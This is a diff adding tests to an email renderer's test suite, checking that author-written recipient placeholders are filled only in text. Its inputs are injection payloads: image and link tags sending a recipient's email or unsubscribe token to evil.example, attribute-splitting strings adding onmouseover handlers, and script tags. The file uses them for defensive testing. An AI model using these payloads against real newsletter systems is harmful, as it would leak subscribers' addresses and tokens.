@@ -1,4 +1,6 @@
 import type { EmailPost, EmailSource } from './email-source';
+import { DomUtils, parseDocument } from 'htmlparser2';
+import { personalizer } from './placeholders';
 import { renderEmail } from './render-email';
 
 const site = {
@@ -61,6 +63,55 @@ describe('renderEmail', () => {
     expect(body).not.toMatch(
       /<script|<form|<input|<svg|<iframe|<meta|<style|onerror|onload|javascript:|data:text|evil/i,
     );
+  });
+
+  describe('with placeholders of an author', () => {
+    const links = { unsubscribeUrl: 'https://site.example/u?token=s3cret', preferencesUrl: 'https://site.example/p' };
+    const recipients = ['Ada', null].map((name) => ({ name, email: 'ada@reader.example', ...links }));
+    const mailsOf = async (content: string, post?: Partial<EmailPost>): Promise<string[]> => {
+      const fill = personalizer((await renderEmail(sourceOf(content, post))).paid);
+      return recipients.map((recipient) => fill(recipient).html);
+    };
+
+    it.each([
+      '<img src="https://evil.example/?%%{email}%%">',
+      '<img src="https://evil.example/?%&#37;{preferences_url}%%">',
+      '<img src="https://evil.example/?%%{email" title="}%%">',
+      '<p>%%{name, "x<i title=\'"}%%<script>alert(1)</script>\'>y</i></p>',
+      '<p><i title="%%{name"><b lang="x onmouseover=alert(1) y" title="}%%">y</b></i></p>',
+      '<i title="%%{name" lang="x onmouseover=alert(1) y" dir="}%%">y</i>',
+      '<p>%%<!-- -->{unsubscribe_url}%%</p>',
+      '%%<!-- -->{unsubscribe_url}%%',
+      '<a href="https://evil.example/?%%{unsubscribe_url}%%">x</a>',
+    ])('replaces them in text only, and never by links of the recipient: %s', async (content) => {
+      for (const html of await mailsOf(content)) {
+        const elements = DomUtils.find(DomUtils.isTag, parseDocument(html).children, true, Infinity);
+        const attributes = elements.flatMap((element) => ('attribs' in element ? Object.entries(element.attribs) : []));
+        expect(attributes.filter(([name, value]) => /^on/.test(name) || /evil.*(ada|s3cret|site)/.test(value))).toEqual(
+          [],
+        );
+        expect(DomUtils.getElementsByTagName('script', parseDocument(html).children)).toEqual([]);
+        expect(html.match(/s3cret/g)).toHaveLength(1);
+      }
+    });
+
+    it('are no placeholders in the fields of the post', async () => {
+      const placeholder = '%%{name, "x';
+      const [html = ''] = await mailsOf('<p>Text</p>', {
+        title: placeholder,
+        authors: [placeholder],
+        featureImage: 'https://evil.example/?%%{email}%%',
+        featureImageAlt: '"}%%<script>alert(1)</script>',
+      });
+      expect(html).not.toContain('ada@reader.example');
+      expect(DomUtils.getElementsByTagName('script', parseDocument(html).children)).toEqual([]);
+    });
+
+    it('become the values of the recipient in text', async () => {
+      const [named, nameless] = await mailsOf('<p>Dear %%{first_name, "reader"}%%, %%{email}%%</p>');
+      expect(named).toContain('Dear Ada, ada@reader.example');
+      expect(nameless).toContain('Dear reader, ada@reader.example');
+    });
   });
 
   it('turns cards into links, pictures and tables', async () => {
